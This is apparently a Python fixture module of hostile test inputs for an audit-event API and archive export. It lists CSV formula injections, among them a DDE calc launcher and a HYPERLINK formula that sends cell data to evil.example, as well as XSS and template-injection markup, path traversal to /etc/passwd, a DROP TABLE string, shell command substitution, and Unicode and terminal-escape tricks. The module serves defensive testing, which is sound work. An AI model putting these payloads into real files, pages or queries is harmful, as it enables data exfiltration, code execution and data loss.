"""What somebody sends who wants archives to break, to lie, or to run something: as events, and as names."""

import json
from typing import Any

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", " =1+1", " \t -1", "\v=1", "\f=1",
    "\N{NO-BREAK SPACE}=1", "\N{IDEOGRAPHIC SPACE}=1", "\N{LINE SEPARATOR}=1",
    "\N{FULLWIDTH EQUALS SIGN}1+1", "\N{FULLWIDTH PLUS SIGN}1", "\N{FULLWIDTH HYPHEN-MINUS}1",
    "\N{FULLWIDTH COMMERCIAL AT}SUM(1)",
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"open")', "=1+1\r\n=2+2",
    '=1","=1', '","=1', '"\r\n"=1', "'=1+1", '"=1+1"', ";=1+1", "-", "=", "@", "a\r\n=1+1", 'a"b', "a,b", "'",
]  # fmt: skip
MARKUP = [
    "<script>alert(1)</script>", "<hostile onclick=alert(1)>", '"><hostile onerror=alert(1) src=x>', "' onmouseover='x",
    "</title><hostile>", "</style><hostile>", "</pre></td></tr></table></body></html><hostile>", "--><hostile>", "<!--",
    "<![CDATA[<hostile>]]>", "javascript:alert(1)", "&lt;hostile&gt;", "&#60;hostile&#62;", "<hostile", "<?hostile?>",
    "{{ 7*7 }}", "{% debug %}", "{% load static %}", "${7*7}", "%(hostile)s %s %n", "{0} {}", "\\u003chostile\\u003e",
]  # fmt: skip
PATHS = [
    "../../etc/passwd", "/etc/passwd", "C:\\Windows\\win.ini", "..\\..\\x", "data/audit_auditevent.ndjson",
    "data/x.ndjson", "manifest.json", "README.html/", "audit_auditevent", "'; DROP TABLE audit_auditevent; --",
    '"audit_auditevent"', "CON", "a/../../b", "file:///etc/passwd", "$(touch x)", "`touch x`", ".", "..",
]  # fmt: skip
UNICODE = [
    "\u202egpj.exe\u202c", "\u2066hidden\u2069", "a\u200bb", "\ufeff=1", "\u2028", "\u2029", "\x85", "\x7f",
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\b\b\b", "\x01", "\x1f", "\uffff", "\ufffd", "\U0010ffff",
    "\N{WOMAN}\u200d\N{WOMAN}\u200d\N{GIRL}", "\N{WAVING WHITE FLAG}\ufe0f\u200d\N{RAINBOW}", "\u00e9", "e\u0301",
    "\u212b", "\u0130i\u0307", "\ufb01", "a" + "\u0301" * 199, "", " ", "null", "true", "0", "{}", "NaN", "\\", '"',
    "\\N", "\\.", "\\u0000", "\\ud800", "\\x00",
]  # fmt: skip
TEXTS = FORMULAS + MARKUP + PATHS + UNICODE
NUMBERS = [
    1e-300, 5e-324, 2.2250738585072014e-308, 0.1, 1e-7, 1e-6, -1e-6, 0.1 + 0.2, 4503599627370495.5, 123456789.12345679,
    2**53 - 1, -(2**53 - 1), 10**15, 0, -0.0, 1.0, -1.5,
]  # fmt: skip
MEBIBYTE = 1024 * 1024
IDS = (
    "=1+1", "<script>alert(1)</script>", "../../etc/passwd", "'; DROP TABLE audit_auditevent; --", "data/x.ndjson",
    "%(hostile)s %s %n", "\u202egpj.exe\u202c", "\u00e9", "\\", '"', "\x1f", "0", "null",
)  # fmt: skip
ADDRESS = "=1+1'%_{}|`x`@example.com"
DEEPEST = 64
"""Levels that a value may have."""

COMPANY = "=1+1</title><hostile onclick='x'>\"../../etc/passwd\u202e\N{GIRL}\r\n\t\x1b[31m&amp;{{ 7*7 }}"
WORKSPACES = [
    "@SUM(1)<hostile>\u202e\N{GIRL}", "../../../etc/cron.d/x\r\n\x1b[2J", "data/x.ndjson", "\u00e9", "e\u0301",
]  # fmt: skip
KEY = "\t=1+1'\"<hostile onclick=x>\u202e\x1b[31m"


def nested(levels: int, *, inside: Any = "=1+1") -> dict[str, Any]:
    """An object of so many levels, lists and objects in turn; what is inside is the last one."""
    value = inside
    for level in range(levels - 2):
        value = [value] if level % 2 else {"<hostile>": value}
    return {"=1+1": value}


def events() -> list[dict[str, Any]]:
    """Events that the API takes, as they are sent."""
    sent = [_everywhere(text) for text in TEXTS]
    sent += [_event(payload={"n": number, "all": NUMBERS}) for number in NUMBERS]
    sent += [_event(occurredAt=moment) for moment in ("1970-01-01T00:00:00Z", "9999-12-31T23:59:59.999999Z")]
    sent += [
        _event(payload={text: n for n, text in enumerate(TEXTS)}, metadata={text: [text] for text in reversed(TEXTS)}),
        _event(payload=dict.fromkeys(("\ue000", "\N{GIRL}", "\uffff", "z", "a", "10", "9", "e\u0301", "\u00e9"), 1)),
        _event(payload={"z": {"b": 1, "a": {"d": [], "c": {}}}, "a": [None, True, False, [], {}, [[]]]}),
        _event(payload=nested(DEEPEST), metadata=nested(DEEPEST)),
        _event(actor={"id": "by address", "email": ADDRESS}),
        _event(actor={"id": "in a text"}, target={"<hostile>": [f"<mailto:{ADDRESS}>"]}),
        _event(actor={"id": "another"}, payload={"text": ADDRESS.replace("%_", "not a pattern")}),
        _event(actor={}, target={}, payload={}, metadata={}, changes=[]),
        _event(actor=None, target=None, payload=None, metadata=None, changes=None),
    ]  # fmt: skip
    return sent


def large_events() -> list[dict[str, Any]]:
    """Events with fields of a megabyte and more, each sent alone."""
    longest = [text * MEBIBYTE for text in ("x", "=", "\x01", "\N{GIRL}", '"', "<", "\n")]
    return [
        *[_event(payload={"text": text}) for text in longest],
        _event(payload={"n" * MEBIBYTE: 1}),
        _event(actor={"id": "u1", "=more": "@" * MEBIBYTE}),
        _event(changes=[{"field": "-" * MEBIBYTE, "old": None, "new": "+"}]),
        _event(payload={"numbers": [1] * 50_000}, metadata={str(n): n for n in range(25_000)}),
    ]


def refused() -> list[tuple[str, str]]:
    """Bodies that no event may have, as texts, and the field that is to blame."""
    found = []
    places: dict[str, dict[str, Any]] = {
        "action": {"action": "X"},
        "category": {"category": "X"},
        "actor.id": {"actor": {"id": "X"}},
        "actor.more[0].x": {"actor": {"more": [{"x": "X"}]}},
        "target.id": {"target": {"id": "X"}},
        "payload.a.b": {"payload": {"a": {"b": "X"}}},
        "payload.": {"payload": {"X": 1}},
        "metadata.a[1]": {"metadata": {"a": [0, "X"]}},
        "changes[0].field": {"changes": [{"field": "X"}]},
        "changes[0].new": {"changes": [{"field": "f", "new": "X"}]},
        "traceId": {"traceId": "X"},
    }
    for escaped in ("\\u0000", "\\ud800", "\\udc00", "a\\ud83d"):
        found += [(_with(event, '"X"', f'"{escaped}"'), path) for path, event in places.items()]
    numbers = "1e21", "9007199254740992", "-9007199254740992", "1.7976931348623157e308", "1e400", "-1e400"
    found += [(_with({"payload": {"n": "X"}}, '"X"', number), "payload.n") for number in numbers]
    found += [
        (json.dumps(_event(payload=nested(DEEPEST + 1))), "payload."),
        (json.dumps(_event(metadata={"a": [[]]})).replace("[[]]", "[" * 100 + "]" * 100), "metadata.a"),
        (_with({"payload": {"n": "X"}}, '"X"', '{"a": 1, "a": 2}'), "a"),
        (json.dumps(_event(payload={"text": "x" * (2 * MEBIBYTE + 1)})), "event"),
    ]
    return found


def _event(**fields: Any) -> dict[str, Any]:
    return {"action": "hostile", "category": "test", **fields}


def _with(fields: dict[str, Any], old: str, new: str) -> str:
    return json.dumps(_event(**fields)).replace(old, new)


def _everywhere(text: str) -> dict[str, Any]:
    """An event that has one text in all its places; its length must fit the shortest of them."""
    return _event(
        action=text or "hostile",
        category=text or "test",
        actor={"id": text, "email": text, "name": text, "more": {text: text}},
        target={"type": text, "id": text, "more": [text]},
        payload={"text": text, text + "'": {"deep": [text, {"=": text}]}},
        metadata={text: text},
        changes=[{"field": text, "old": text, "new": {text: [text]}}],
        traceId=text,
    )
